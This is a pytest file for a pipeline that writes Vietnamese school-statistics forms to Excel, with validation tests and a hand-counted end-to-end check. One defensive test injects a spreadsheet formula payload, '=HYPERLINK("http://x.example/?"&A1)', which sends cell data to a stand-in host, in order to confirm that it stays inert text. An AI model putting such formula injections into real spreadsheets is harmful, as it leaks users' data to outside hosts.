"""Issue 20, items 3 and 4: the start-of-year statistical forms (01.ĐN-MN, 02.ĐN-TH,
03.ĐN-THCS) as data (reference/statistical_forms.csv) and as workbooks
(warehouse/reports/bieu_mau/<school year>/<form>.xlsx, then xa/<commune>/…).

The reference file's validation and the workbook's cells-are-values rule are pure-function
tests; the hand-built province below is one `cds run` (marked e2e). The mart's formulas are
also held by the dbt unit test in dbt_project/models/marts/_marts_forms_unit_tests.yml.

The hand count was written before the first run and matched it. Checked by breaking the
code, with the workbooks rewritten from that run's analytics.duckdb: the ownership columns
written in reverse order, and the last blank row left off "Chỉ tiêu chưa có dữ liệu", each
failed `test_every_computed_cell_equals_the_hand_count`; restored, it passes.
"""

from __future__ import annotations

from pathlib import Path

import openpyxl
import polars as pl
import pytest

from pipelines.ingest.sources import PERIODS_BY_REPORT
from pipelines.reference.emis_codes import load_emis_codes
from pipelines.reference.statistical_forms import StatisticalFormError, load_statistical_forms
from pipelines.reference.validate import reference_errors
from pipelines.reports.statistical_forms import BLANK_SHEET, FormArea, write_form_workbook
from pipelines.settings import SHIPPED_REFERENCE
from tests.builders import cds_run, write_emis_report, write_registry_file

FORMS_CSV = SHIPPED_REFERENCE / "statistical_forms.csv"
FORMS = ("01.ĐN-MN", "02.ĐN-TH", "03.ĐN-THCS")


# --- the reference file -------------------------------------------------------------------


def test_shipped_forms_load_with_every_row_computed_or_explained() -> None:
    forms = load_statistical_forms(FORMS_CSV)
    assert forms["form"].unique(maintain_order=True).to_list() == list(FORMS)
    rows = forms.filter(pl.col("method") != "heading")
    # every row either has a computation or says why it is blank
    assert rows.filter((pl.col("method") == "blank") & (pl.col("reason") == "")).height == 0
    # the 2020 layout's Mã số run 1…132 (TH) and 1…212 (MN) without a gap
    for form, last in (("02.ĐN-TH", 132), ("01.ĐN-MN", 212)):
        codes = sorted(int(c) for c in rows.filter(pl.col("form") == form)["ma_so"] if c)
        assert codes == list(range(1, last + 1)), form
    assert set(forms.filter(pl.col("form") == "03.ĐN-THCS")["provenance"]) <= {
        "tuong_tu",
        "bo_sung",
    }


def test_forms_use_known_codes_of_levels_that_report_them() -> None:
    """Every emis code a row adds is in emis_indicators.csv, and every level the row covers
    reports it (a code's blank levels = every level)."""
    emis = {
        r["code"]: set(r["levels"].split())
        for r in load_emis_codes(SHIPPED_REFERENCE / "emis_indicators.csv").iter_rows(named=True)
    }
    forms = load_statistical_forms(FORMS_CSV)
    for r in forms.filter(pl.col("codes") != "").iter_rows(named=True):
        for code in r["codes"].split():
            assert code in emis, (r["form"], r["label"], code)
            levels = set(r["levels"].split())
            assert not emis[code] or levels <= emis[code], (r["form"], r["label"], code)


def _broken(tmp_path: Path, edit) -> Path:
    df = pl.read_csv(FORMS_CSV, infer_schema=False)
    path = tmp_path / "statistical_forms.csv"
    edit(df).write_csv(path)
    return path


def _set(row: int, **values: str):
    """Change data line `row` (0-based) of the file; its line number is row + 2."""
    return lambda df: df.with_columns(
        pl.when(pl.int_range(pl.len()) == row).then(pl.lit(v)).otherwise(pl.col(c)).alias(c)
        for c, v in values.items()
    )


@pytest.mark.parametrize(
    ("edit", "needle"),
    [
        (_set(1, method="sum_all"), "dòng 3 (biểu 01.ĐN-MN, mã số 1): cách tính 'sum_all'"),
        (
            _set(5, reason=""),
            "dòng 7 (biểu 01.ĐN-MN, mã số 2): dòng không tính được phải ghi lý do",
        ),
        (_set(1, levels="MN ĐH"), "cấp học 'ĐH' không hợp lệ"),
        (_set(1, method="emis_sum"), "cách tính emis_sum cần mã số chỉ tiêu"),
        (_set(1, codes="12a"), "không dùng codes"),
        (_set(5, ma_so="1"), "biểu 01.ĐN-MN có mã số 1 bị trùng"),
        (_set(1, provenance="tt25"), "nguồn gốc 'tt25' không hợp lệ"),
        (_set(1, ownership_columns="cong_lap"), "biểu 01.ĐN-MN phải có đúng một ownership_columns"),
        (_set(1, breakdown="y"), "chỉ cách tính emis_sum mới có cột nữ / dân tộc"),
        (_set(0, unit="trường"), "dòng tiêu đề không có đơn vị tính và mã số"),
        (lambda df: df.drop("method"), "thiếu cột method"),
    ],
)
def test_broken_forms_file_is_refused_naming_the_line(tmp_path: Path, edit, needle: str) -> None:
    path = _broken(tmp_path, edit)
    with pytest.raises(StatisticalFormError) as caught:
        load_statistical_forms(path)
    assert needle in str(caught.value)
    # and the run's up-front check names the file (cds run exits 2 on it)
    errors = reference_errors(
        lambda name: path if name == "statistical_forms.csv" else SHIPPED_REFERENCE / name,
        PERIODS_BY_REPORT,
    )
    assert len(errors) == 1 and errors[0].startswith(f"{path}: ") and needle in errors[0]


def test_workbook_cells_are_values_never_formulas(tmp_path: Path) -> None:
    """A label or area name that looks like a formula stays text; numbers are numbers."""
    layout = load_statistical_forms(FORMS_CSV).with_columns(
        pl.when(pl.col("ma_so") == "1")
        .then(pl.lit('=HYPERLINK("http://x.example/?"&A1)'))
        .otherwise(pl.col("label"))
        .alias("label")
    )
    row_1 = layout.filter((pl.col("form") == "02.ĐN-TH") & (pl.col("ma_so") == "1"))
    path = tmp_path / "02.ĐN-TH.xlsx"
    area = FormArea("commune", "00011", "=1+1", "2024-2025")
    write_form_workbook(path, "02.ĐN-TH", layout, {(row_1["row_order"][0], "total"): 7}, area, 1, 1)
    book = openpyxl.load_workbook(path)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    sheet = book["I"]
    found = [r for r in sheet.iter_rows(values_only=True) if r[3] == "1"]
    assert found[0][1].startswith("=HYPERLINK") and found[0][4] == 7


# --- a hand-built province, one run ---------------------------------------------------------

YEAR = "2024-2025"
C1 = {"Mã xã": "00011", "Xã/Phường/Thị trấn": "Xã Một"}
C2 = {"Mã xã": "00012", "Xã/Phường/Thị trấn": "Phường Hai"}
PROVINCE = {"Mã tỉnh": "31", "Tỉnh/Thành phố": "Thành phố Thử"}
REGISTRY_COLUMNS = [
    "Mã trường", "Tên trường", "Cấp học", "Loại hình", "Mã xã", "Xã/Phường/Thị trấn",
    "Mã tỉnh", "Tỉnh/Thành phố", "Trạng thái",
]  # fmt: skip
# code, name, level, ownership, commune, status
SCHOOLS = [
    ("31000001", "Trường Mầm non Một", "Mầm non", "Công lập", C1, "Đang hoạt động"),
    ("31000002", "Trường Mầm non Hai", "Mầm non", "Tư thục", C2, "Đang hoạt động"),
    ("31000003", "Trường Mầm non Ba", "Mầm non", "Dân lập", C1, "Đang hoạt động"),
    ("31000011", "Trường Tiểu học Một", "Tiểu học", "Công lập", C1, "Đang hoạt động"),
    ("31000012", "Trường Tiểu học Hai", "Tiểu học", "Tư thục", C2, "Đang hoạt động"),
    ("31000013", "Trường Tiểu học Ba", "Tiểu học", "Công lập", C2, "Đang hoạt động"),
    ("31000019", "Trường Tiểu học Chín", "Tiểu học", "Công lập", C1, "Tạm dừng"),
    ("31000021", "Trường THCS Một", "THCS", "Công lập", C2, "Đang hoạt động"),
    ("31000022", "Trường THCS Hai", "THCS", "Tư thục", C1, "Đang hoạt động"),
    ("31000031", "Trường TH&THCS Một", "TH&THCS", "Công lập", C2, "Đang hoạt động"),
]


def _grades(first: int, per_grade: list) -> dict:
    return {str(first + n): v for n, v in enumerate(per_grade)}


# start-of-year reports: (total, female, ethnic) for pupils and staff, totals otherwise.
# 31000013 (TH, active) sends none; 31000019 (TH, suspended) sends one that must not count.
REPORTS = {
    "31000001": {  # MN, công lập, C1
        "101": 8, "120": 3, "121": 5, "201": (160, 80, 15), "220": (40, 20, 5),
        "221": (120, 60, 10), "301": (20, 19, 2), "302": (2, 2, 0), "303": (14, 14, 2),
        "304": (4, 3, 0), "311": (4, 4, 0), "312": (9, 9, 2), "313": (1, 1, 0), "401": 8,
        "402": 6, "406": 0, "407": 2, "408": 1,
    },
    "31000002": {  # MN, tư thục, C2
        "101": 3, "120": 1, "121": 2, "201": (55, 24, 1), "220": (10, 4, 0),
        "221": (45, 20, 1), "301": (9, 8, 0), "302": (1, 1, 0), "303": (6, 6, 0),
        "304": (2, 1, 0), "311": (1, 1, 0), "312": (5, 5, 0), "313": (0, 0, 0), "401": 3,
        "402": 0, "406": 0, "407": 0, "408": 0,
    },
    "31000003": {  # MN, dân lập, C1
        "101": 2, "120": 0, "121": 2, "201": (50, 25, 0), "220": (0, 0, 0),
        "221": (50, 25, 0), "301": (6, 6, 0), "302": (1, 1, 0), "303": (4, 4, 0),
        "304": (1, 1, 0), "311": (0, 0, 0), "312": (4, 4, 0), "313": (0, 0, 0), "401": 2,
        "402": 0, "406": 1, "407": 0, "408": 1,
    },
    "31000011": {  # TH, công lập, C1
        "101": 10, **_grades(111, [2, 2, 2, 2, 2]), "201": (250, 122, 20),
        **_grades(211, [(60, 30, 6), (55, 25, 5), (50, 26, 4), (45, 20, 3), (40, 21, 2)]),
        "301": (25, 20, 3), "302": (2, 1, 0), "303": (18, 16, 3), "304": (5, 3, 0),
        "311": (6, 5, 1), "312": (11, 10, 2), "313": (1, 1, 0), "401": 10, "402": 10,
        "405": 1, "406": 20, "407": 3, "408": 2,
    },
    "31000012": {  # TH, tư thục, C2
        "101": 5, **_grades(111, [1, 1, 1, 1, 1]), "201": (125, 60, 0),
        **_grades(211, [(25, 12, 0)] * 5), "301": (11, 9, 0), "302": (1, 1, 0),
        "303": (8, 7, 0), "304": (2, 1, 0), "311": (2, 2, 0), "312": (6, 5, 0),
        "313": (0, 0, 0), "401": 5, "402": 0, "405": 0, "406": 0, "407": 1, "408": 1,
    },
    "31000019": {  # TH, suspended: counted nowhere
        "101": 9, **_grades(111, [9, 0, 0, 0, 0]), "201": (99, 0, 0),
        **_grades(211, [(99, 0, 0), 0, 0, 0, 0]), "401": 9, "402": 9, "406": 9,
    },
    "31000021": {  # THCS, công lập, C2
        "101": 8, **_grades(116, [2, 2, 2, 2]), "201": (303, 151, 26),
        **_grades(216, [(80, 40, 8), (78, 39, 7), (75, 37, 6), (70, 35, 5)]),
        "301": (39, 28, 5), "302": (3, 2, 0), "303": (30, 22, 4), "304": (6, 4, 1),
        "311": (10, 8, 1), "312": (19, 13, 3), "313": (1, 1, 0), "401": 8, "402": 8,
        "405": 2, "406": 40, "407": 4, "408": 2,
    },
    "31000022": {  # THCS, tư thục, C1
        "101": 4, **_grades(116, [1, 1, 1, 1]), "201": (120, 60, 0),
        **_grades(216, [(30, 15, 0)] * 4), "301": (15, 11, 0), "302": (1, 1, 0),
        "303": (12, 9, 0), "304": (2, 1, 0), "311": (3, 2, 0), "312": (9, 7, 0),
        "313": (0, 0, 0), "401": 4, "402": 2, "405": 1, "406": 15, "407": 1, "408": 1,
    },
    "31000031": {  # TH&THCS, công lập, C2
        "101": 9, **_grades(111, [1] * 9), "201": (262, 131, 86),
        **_grades(211, [(30, 15, 10)] * 5), **_grades(216, [(28, 14, 9)] * 4),
        "301": (25, 18, 7), "302": (2, 1, 1), "303": (20, 15, 5), "304": (3, 2, 1),
        "311": (5, 4, 1), "312": (14, 10, 4), "313": (1, 1, 0), "401": 9, "402": 0,
        "405": 1, "406": 0, "407": 1, "408": 1,
    },
}  # fmt: skip

P, X1, X2 = "31", "00011", "00012"
# The hand count. Key: the row's Mã số, or its label for a row the warehouse adds (no Mã
# số). Value per area: (Tổng số, the form's ownership columns…, then Nữ, Dân tộc for rows
# with a breakdown). Schools counted: the active ones; a liên cấp school's grade 1-5 classes
# and pupils are in 02.ĐN-TH, everything else of it in 03.ĐN-THCS.
EXPECTED: dict[str, dict[str, dict[str, tuple[int, ...]]]] = {
    # columns: total, công lập, tư thục, dân lập, [nữ, dân tộc]
    # C1: M1 (CL), M3 (DL); C2: M2 (TT)
    "01.ĐN-MN": {
        "1": {P: (3, 1, 1, 1), X1: (2, 1, 0, 1), X2: (1, 0, 1, 0)},
        # 406 + 407 > 0: M1 (0 + 2), M3 (1 + 0); not M2 (0 + 0)
        "- Trường có sử dụng máy vi tính phục vụ quản lý và giáo dục trẻ": {
            P: (2, 1, 0, 1), X1: (2, 1, 0, 1), X2: (0, 0, 0, 0)},
        # 408 > 0: M1 (1), M3 (1)
        "- Trường được kết nối internet": {
            P: (2, 1, 0, 1), X1: (2, 1, 0, 1), X2: (0, 0, 0, 0)},
        # 120 + 121: M1 3 + 5, M2 1 + 2, M3 0 + 2
        "55": {P: (13, 8, 3, 2), X1: (10, 8, 0, 2), X2: (3, 0, 3, 0)},
        "56": {P: (4, 3, 1, 0), X1: (3, 3, 0, 0), X2: (1, 0, 1, 0)},
        "69": {P: (9, 5, 2, 2), X1: (7, 5, 0, 2), X2: (2, 0, 2, 0)},
        # 220 + 221: M1 160/80/15, M2 55/24/1, M3 50/25/0
        "83": {P: (265, 160, 55, 50, 129, 16), X1: (210, 160, 0, 50, 105, 15),
               X2: (55, 0, 55, 0, 24, 1)},
        # 220: M1 40/20/5, M2 10/4/0, M3 0
        "84": {P: (50, 40, 10, 0, 24, 5), X1: (40, 40, 0, 0, 20, 5), X2: (10, 0, 10, 0, 4, 0)},
        # 221: M1 120/60/10, M2 45/20/1, M3 50/25/0
        "90": {P: (215, 120, 45, 50, 105, 11), X1: (170, 120, 0, 50, 85, 10),
               X2: (45, 0, 45, 0, 20, 1)},
        "96": {P: (50, 40, 10, 0, 24, 5), X1: (40, 40, 0, 0, 20, 5), X2: (10, 0, 10, 0, 4, 0)},
        "101": {P: (215, 120, 45, 50, 105, 11), X1: (170, 120, 0, 50, 85, 10),
                X2: (45, 0, 45, 0, 20, 1)},
        # 302: 2/2/0, 1/1/0, 1/1/0
        "123": {P: (4, 2, 1, 1, 4, 0), X1: (3, 2, 0, 1, 3, 0), X2: (1, 0, 1, 0, 1, 0)},
        # 304: 4/3/0, 2/1/0, 1/1/0
        "156": {P: (7, 4, 2, 1, 5, 0), X1: (5, 4, 0, 1, 4, 0), X2: (2, 0, 2, 0, 1, 0)},
        # 303: 14/14/2, 6/6/0, 4/4/0
        "167": {P: (24, 14, 6, 4, 24, 2), X1: (18, 14, 0, 4, 18, 2), X2: (6, 0, 6, 0, 6, 0)},
        "- Trên chuẩn": {P: (5, 4, 1, 0, 5, 0), X1: (4, 4, 0, 0, 4, 0),
                         X2: (1, 0, 1, 0, 1, 0)},
        "- Đạt chuẩn": {P: (18, 9, 5, 4, 18, 2), X1: (13, 9, 0, 4, 13, 2),
                        X2: (5, 0, 5, 0, 5, 0)},
        "- Chưa đạt chuẩn": {P: (1, 1, 0, 0, 1, 0), X1: (1, 1, 0, 0, 1, 0),
                             X2: (0, 0, 0, 0, 0, 0)},
        "- Phòng học (nhà trẻ và mẫu giáo)": {
            P: (13, 8, 3, 2), X1: (10, 8, 0, 2), X2: (3, 0, 3, 0)},
        "- Máy tính phục vụ dạy học": {P: (1, 0, 0, 1), X1: (1, 0, 0, 1), X2: (0, 0, 0, 0)},
        "- Máy tính phục vụ quản lý": {P: (2, 2, 0, 0), X1: (2, 2, 0, 0), X2: (0, 0, 0, 0)},
        "- Phòng học có kết nối Internet": {
            P: (6, 6, 0, 0), X1: (6, 6, 0, 0), X2: (0, 0, 0, 0)},
    },
    # columns: total, công lập, tư thục, [nữ, dân tộc]
    # schools (TH only): C1 T1 (CL); C2 T2 (TT), T3 (CL, no report). Grades also L1 (CL, C2).
    "02.ĐN-TH": {
        "1": {P: (3, 2, 1), X1: (1, 1, 0), X2: (2, 1, 1)},
        "16": {P: (1, 1, 0), X1: (1, 1, 0), X2: (0, 0, 0)},  # 406 > 0: T1 only
        "17": {P: (1, 1, 0), X1: (1, 1, 0), X2: (0, 0, 0)},  # 402 > 0: T1 only
        # 111-115: T1 10, T2 5, L1 5
        "27": {P: (20, 15, 5), X1: (10, 10, 0), X2: (10, 5, 5)},
        **{code: {P: (4, 3, 1), X1: (2, 2, 0), X2: (2, 1, 1)} for code in ["28", "29", "30", "31", "32"]},
        # 211-215: T1 250/122/20, T2 125/60/0, L1 150/75/50
        "37": {P: (525, 400, 125, 257, 70), X1: (250, 250, 0, 122, 20),
               X2: (275, 150, 125, 135, 50)},
        "40": {P: (115, 90, 25, 57, 16), X1: (60, 60, 0, 30, 6), X2: (55, 30, 25, 27, 10)},
        "41": {P: (110, 85, 25, 52, 15), X1: (55, 55, 0, 25, 5), X2: (55, 30, 25, 27, 10)},
        "42": {P: (105, 80, 25, 53, 14), X1: (50, 50, 0, 26, 4), X2: (55, 30, 25, 27, 10)},
        "43": {P: (100, 75, 25, 47, 13), X1: (45, 45, 0, 20, 3), X2: (55, 30, 25, 27, 10)},
        "44": {P: (95, 70, 25, 48, 12), X1: (40, 40, 0, 21, 2), X2: (55, 30, 25, 27, 10)},
        # Informatics, grades 3-5 (213-215)
        "73": {P: (300, 225, 75, 148, 39), X1: (135, 135, 0, 67, 9),
               X2: (165, 90, 75, 81, 30)},
        # staff, rooms, computers: TH schools only (T1, T2)
        "78": {P: (36, 25, 11, 29, 3), X1: (25, 25, 0, 20, 3), X2: (11, 0, 11, 9, 0)},
        "79": {P: (3, 2, 1, 2, 0), X1: (2, 2, 0, 1, 0), X2: (1, 0, 1, 1, 0)},
        "96": {P: (26, 18, 8, 23, 3), X1: (18, 18, 0, 16, 3), X2: (8, 0, 8, 7, 0)},
        "- Trên chuẩn": {P: (8, 6, 2, 7, 1), X1: (6, 6, 0, 5, 1), X2: (2, 0, 2, 2, 0)},
        "- Đạt chuẩn": {P: (17, 11, 6, 15, 2), X1: (11, 11, 0, 10, 2), X2: (6, 0, 6, 5, 0)},
        "- Chưa đạt chuẩn": {P: (1, 1, 0, 1, 0), X1: (1, 1, 0, 1, 0), X2: (0, 0, 0, 0, 0)},
        "110": {P: (7, 5, 2, 4, 0), X1: (5, 5, 0, 3, 0), X2: (2, 0, 2, 1, 0)},
        "120": {P: (15, 10, 5), X1: (10, 10, 0), X2: (5, 0, 5)},
        "125": {P: (1, 1, 0), X1: (1, 1, 0), X2: (0, 0, 0)},
        "- Máy tính phục vụ dạy học": {P: (20, 20, 0), X1: (20, 20, 0), X2: (0, 0, 0)},
        "- Máy tính phục vụ quản lý": {P: (4, 3, 1), X1: (3, 3, 0), X2: (1, 0, 1)},
        "- Phòng học có kết nối Internet": {P: (10, 10, 0), X1: (10, 10, 0), X2: (0, 0, 0)},
    },
    # columns: total, công lập, tư thục, [nữ, dân tộc]
    # C1: H2 (THCS, TT); C2: H1 (THCS, CL), L1 (TH&THCS, CL)
    "03.ĐN-THCS": {
        "1": {P: (3, 2, 1), X1: (1, 0, 1), X2: (2, 2, 0)},
        "2": {P: (2, 1, 1), X1: (1, 0, 1), X2: (1, 1, 0)},
        "3": {P: (1, 1, 0), X1: (0, 0, 0), X2: (1, 1, 0)},
        "11": {P: (2, 1, 1), X1: (1, 0, 1), X2: (1, 1, 0)},  # 406 > 0: H1, H2, not L1
        "12": {P: (2, 1, 1), X1: (1, 0, 1), X2: (1, 1, 0)},  # 402 > 0: H1, H2, not L1
        # 116-119: H1 8, H2 4, L1 4
        "17": {P: (16, 12, 4), X1: (4, 0, 4), X2: (12, 12, 0)},
        **{code: {P: (4, 3, 1), X1: (1, 0, 1), X2: (3, 3, 0)} for code in ["18", "19", "20", "21"]},
        # 216-219: H1 303/151/26, H2 120/60/0, L1 112/56/36
        "24": {P: (535, 415, 120, 267, 62), X1: (120, 0, 120, 60, 0),
               X2: (415, 415, 0, 207, 62)},
        "27": {P: (138, 108, 30, 69, 17), X1: (30, 0, 30, 15, 0), X2: (108, 108, 0, 54, 17)},
        "28": {P: (136, 106, 30, 68, 16), X1: (30, 0, 30, 15, 0), X2: (106, 106, 0, 53, 16)},
        "29": {P: (133, 103, 30, 66, 15), X1: (30, 0, 30, 15, 0), X2: (103, 103, 0, 51, 15)},
        "30": {P: (128, 98, 30, 64, 14), X1: (30, 0, 30, 15, 0), X2: (98, 98, 0, 49, 14)},
        "42": {P: (535, 415, 120, 267, 62), X1: (120, 0, 120, 60, 0),
               X2: (415, 415, 0, 207, 62)},
        # staff: H1 39/28/5, H2 15/11/0, L1 25/18/7 (a liên cấp school's staff are here)
        "44": {P: (79, 64, 15, 57, 12), X1: (15, 0, 15, 11, 0), X2: (64, 64, 0, 46, 12)},
        "45": {P: (6, 5, 1, 4, 1), X1: (1, 0, 1, 1, 0), X2: (5, 5, 0, 3, 1)},
        "48": {P: (62, 50, 12, 46, 9), X1: (12, 0, 12, 9, 0), X2: (50, 50, 0, 37, 9)},
        "- Trên chuẩn": {P: (18, 15, 3, 14, 2), X1: (3, 0, 3, 2, 0), X2: (15, 15, 0, 12, 2)},
        "- Đạt chuẩn": {P: (42, 33, 9, 30, 7), X1: (9, 0, 9, 7, 0), X2: (33, 33, 0, 23, 7)},
        "- Chưa đạt chuẩn": {P: (2, 2, 0, 2, 0), X1: (0, 0, 0, 0, 0), X2: (2, 2, 0, 2, 0)},
        "61": {P: (11, 9, 2, 7, 2), X1: (2, 0, 2, 1, 0), X2: (9, 9, 0, 6, 2)},
        "69": {P: (21, 17, 4), X1: (4, 0, 4), X2: (17, 17, 0)},
        "74": {P: (4, 3, 1), X1: (1, 0, 1), X2: (3, 3, 0)},
        "- Máy tính phục vụ dạy học": {P: (55, 40, 15), X1: (15, 0, 15), X2: (40, 40, 0)},
        "- Máy tính phục vụ quản lý": {P: (6, 5, 1), X1: (1, 0, 1), X2: (5, 5, 0)},
        "- Phòng học có kết nối Internet": {P: (10, 8, 2), X1: (2, 0, 2), X2: (8, 8, 0)},
    },
}  # fmt: skip
# "Tổng hợp từ báo cáo … của n_reported/n_schools trường", the schools a form covers: MN
# M1, M3 | M2; TH T1 | T2, T3 (no report), L1 (its grades); THCS H2 | H1, L1
COVERAGE = {
    "01.ĐN-MN": {P: "3/3", X1: "2/2", X2: "1/1"},
    "02.ĐN-TH": {P: "3/4", X1: "1/1", X2: "2/3"},
    "03.ĐN-THCS": {P: "3/3", X1: "1/1", X2: "2/2"},
}


def _hand_built(raw: Path) -> None:
    rows = [
        {"Mã trường": code, "Tên trường": name, "Cấp học": level, "Loại hình": owner,
         **commune, **PROVINCE, "Trạng thái": status}
        for code, name, level, owner, commune, status in SCHOOLS
    ]  # fmt: skip
    write_registry_file(
        raw,
        rows,
        "danh_muc.xlsx",
        header=[("Ngày hiệu lực", "15/08/2024")],
        columns=REGISTRY_COLUMNS,
    )
    for school, values in REPORTS.items():
        write_emis_report(raw, school, YEAR, "Đầu năm", "05/10/2024", values, f"{school}.xlsx")


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("forms")
    _hand_built(root / "raw")
    result = cds_run(root / "raw", root / "warehouse")
    assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-3000:]
    return root / "warehouse"


def _read_form(path: Path) -> tuple[dict[str, tuple], list[tuple], list[tuple], dict]:
    """(computed rows by key, rows left blank, rows the last sheet lists, facts)."""
    book = openpyxl.load_workbook(path)
    computed: dict[str, tuple] = {}
    blank: list[tuple] = []
    facts: dict = {"formulas": [], "female_ethnic": [], "formats": set()}
    assert book.sheetnames[-1] == BLANK_SHEET
    for sheet in book.worksheets[:-1]:
        facts.setdefault("titles", []).append(sheet["A1"].value)
        facts.setdefault("coverage", []).append(sheet["A5"].value)
        facts.setdefault("receiver", []).append(
            [c.value for row in sheet.iter_rows(max_row=4) for c in row if c.value]
        )
        rows = list(sheet.iter_rows())
        letter = next(n for n, r in enumerate(rows) if r[1].value == "A" and r[2].value == "B")
        header = [c.value for c in rows[letter - 1]]
        facts["header"] = header
        facts["letters"] = [c.value for c in rows[letter]]
        for row in rows[letter + 1 :]:
            tt, label, unit, ma_so, *cells = row
            numbers = [c.value for c in cells]
            facts["formulas"] += [c.coordinate for c in row if c.data_type == "f"]
            facts["female_ethnic"].append(numbers[-1])
            facts["formats"] |= {c.number_format for c in cells if c.value is not None}
            if any(v is not None for v in numbers):
                values = tuple(v for v in numbers[:-1] if v is not None)
                computed[ma_so.value or label.value] = values
            elif unit.value:
                blank.append((sheet.title, tt.value, label.value, unit.value, ma_so.value))
    last = book[BLANK_SHEET]
    listed = []
    for row in last.iter_rows(min_row=5, values_only=True):
        if row[0] is None:
            break
        listed.append(tuple(row[:5]))
    return computed, blank, listed, facts


@pytest.mark.e2e
def test_every_computed_cell_equals_the_hand_count(warehouse: Path) -> None:
    """Each form of the province and of each commune: every cell with a value is the hand
    count above (and every hand-counted row has its values); the rows left blank are exactly
    those listed on "Chỉ tiêu chưa có dữ liệu"; headers and formats as published."""
    folder = warehouse / "reports" / "bieu_mau" / YEAR
    layout = load_statistical_forms(FORMS_CSV)
    for form in FORMS:
        for area, path in (
            (P, folder / f"{form}.xlsx"),
            (X1, folder / "xa" / X1 / f"{form}.xlsx"),
            (X2, folder / "xa" / X2 / f"{form}.xlsx"),
        ):
            computed, blank, listed, facts = _read_form(path)
            expected = {key: areas[area] for key, areas in EXPECTED[form].items()}
            assert computed == expected, (form, area)
            assert blank == listed, (form, area)
            n_blank = layout.filter((pl.col("form") == form) & (pl.col("method") == "blank"))
            assert len(listed) == n_blank.height
            assert facts["formulas"] == []
            assert set(facts["female_ethnic"]) == {None}  # no source gives it: always blank
            assert facts["formats"] == {"#,##0"}
            assert all(f" {COVERAGE[form][area]} trường" in c for c in facts["coverage"])
            assert all("Bộ Giáo dục và Đào tạo" in r for r in facts["receiver"])
            assert facts["letters"][1:4] == ["A", "B", "C"]
    # the province's header block names the Sở; the MN form has Dân lập, the others not
    _, _, _, facts = _read_form(folder / "01.ĐN-MN.xlsx")
    assert "Sở GDĐT Thành phố Thử" in facts["receiver"][0]
    assert facts["header"][5:8] == ["Công lập", "Tư thục", "Dân lập"]
    _, _, _, facts = _read_form(folder / "02.ĐN-TH.xlsx")
    assert facts["header"][5:9] == ["Công lập", "Tư thục", "Nữ", "Dân tộc"]
    # a registry without districts: no district folder
    assert sorted(p.name for p in folder.iterdir() if p.is_dir()) == ["xa"]


def _cells(areas: list[tuple[str, str]]) -> pl.DataFrame:
    """One computed cell of 02.ĐN-TH (Mã số 1, total = 1) for each (area_level, area_code)."""
    layout = load_statistical_forms(FORMS_CSV)
    order = layout.filter((pl.col("form") == "02.ĐN-TH") & (pl.col("ma_so") == "1"))["row_order"][0]
    return pl.DataFrame(
        [
            {
                "area_level": level,
                "area_code": code,
                "area_name": f"Địa bàn {code}",
                "province_code": "31",
                "school_year": "2024-2025",
                "form": "02.ĐN-TH",
                "row_order": order,
                "ma_so": "1",
                "value_column": "total",
                "value": 1,
                "n_schools": 1,
                "n_reported": 1,
            }
            for level, code in areas
        ]
    )


def test_one_province_at_the_top_its_communes_below_several_provinces_each_in_its_folder(
    tmp_path: Path,
) -> None:
    from pipelines.reports.statistical_forms import write_statistical_forms

    layout = load_statistical_forms(FORMS_CSV).filter(pl.col("form") == "02.ĐN-TH")
    one = tmp_path / "one"
    written = write_statistical_forms(
        one, _cells([("province", "31"), ("commune", "00011")]), layout
    )
    assert sorted(p.relative_to(one).as_posix() for p in one.rglob("*.xlsx")) == [
        "2024-2025/02.ĐN-TH.xlsx",
        "2024-2025/xa/00011/02.ĐN-TH.xlsx",
    ]
    assert written["province_files"] == [str(one / "2024-2025" / "02.ĐN-TH.xlsx")]
    # a second run replaces the year's folder whole: a commune that left leaves no workbook
    write_statistical_forms(one, _cells([("province", "31")]), layout)
    assert [p.relative_to(one).as_posix() for p in one.rglob("*.xlsx")] == [
        "2024-2025/02.ĐN-TH.xlsx"
    ]
    several = tmp_path / "several"
    cells = _cells([("province", "31"), ("province", "33"), ("commune", "00011")])
    write_statistical_forms(several, cells, layout)
    assert sorted(p.relative_to(several).as_posix() for p in several.rglob("*.xlsx")) == [
        "2024-2025/tinh/31/02.ĐN-TH.xlsx",
        "2024-2025/tinh/33/02.ĐN-TH.xlsx",
    ]
